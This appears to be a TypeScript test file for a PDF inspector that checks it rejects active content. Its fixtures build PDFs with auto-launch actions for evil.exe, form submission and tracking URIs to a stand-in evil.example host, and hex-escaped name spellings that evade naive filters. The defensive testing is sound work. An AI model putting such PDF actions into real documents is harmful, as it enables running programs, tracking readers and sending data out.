import { describe, expect, test } from 'vitest';
import { makePdf } from '../../../test/files/pdf.ts';
import { inspectFile } from './inspect-file.ts';

const LINK = '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 10 0 R >>';
const link = (action: string, ...more: string[]): Buffer =>
  makePdf({ page: '/Annots [11 0 R]', objects: [action, LINK, ...more] });
const opened = (action: string, ...more: string[]): Buffer =>
  makePdf({ catalog: '/OpenAction 10 0 R', objects: [action, ...more] });

describe('PDF actions behind indirect references or unusual spellings [sec L04]', () => {
  test.each<[string, Buffer]>([
    ['a link that starts a program', link('<< /S 12 0 R /F (evil.exe) >>', '/Launch')],
    ['a program started when it opens', opened('<< /S 11 0 R /F (evil.exe) >>', '/Launch')],
    ['a form that is sent', opened('<< /S 11 0 R /F (https://evil.example/take) >>', '/SubmitForm')],
    ['another file', opened('<< /S 11 0 R /F (x.pdf) /D [0 /Fit] >>', '/GoToR')],
    ['data that is imported', opened('<< /S 11 0 R /F (x.fdf) >>', '/ImportData')],
    [
      'a film',
      makePdf({
        page: '/Annots [10 0 R]',
        objects: ['<< /Type /Annot /Subtype 11 0 R /Rect [0 0 9 9] /Movie << /F (x.avi) >> >>', '/Movie'],
      }),
    ],
    ['an address opened with it', opened('<< /S /URI /URI (https://evil.example/track) >>')],
    ['the same, its name spelled otherwise', opened('<< /#53 /U#52I /URI (https://evil.example/track) >>')],
    [
      'the same, its key spelled otherwise',
      makePdf({ catalog: '/Open#41ction 10 0 R', objects: ['<< /S /URI /URI (https://evil.example) >>'] }),
    ],
    [
      'an address opened with a page',
      makePdf({
        page: '/AA 10 0 R',
        objects: ['<< /O 11 0 R >>', '<< /S /URI /URI (https://evil.example) >>'],
      }),
    ],
    [
      'an address opened after turning to a page',
      opened('<< /S /GoTo /D [100 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>'),
    ],
  ])('rejects %s [sec L04]', async (_, bytes) => {
    expect(await inspectFile('application/pdf', bytes)).toEqual({ reason: 'active-content' });
  });

  test('rejects an action name behind two references as damaged [sec L04]', async () => {
    const bytes = opened('<< /S 11 0 R /F (x) >>', '12 0 R', '/Launch');
    expect(await inspectFile('application/pdf', bytes)).toEqual({ reason: 'damaged' });
  });

  test.each<[string, Buffer]>([
    ['a link to an address', link('<< /S 12 0 R /URI (https://firm.example) >>', '/URI')],
    ['opening at a page', makePdf({ catalog: '/OpenAction [100 0 R /Fit]' })],
    ['turning to a page', opened('<< /S 11 0 R /D [100 0 R /Fit] >>', '/GoTo')],
    ['showing the dialog for printing', opened('<< /S /Named /N /Print >>')],
  ])('accepts %s', async (_, bytes) => {
    expect(await inspectFile('application/pdf', bytes)).not.toHaveProperty('reason');
  });
});
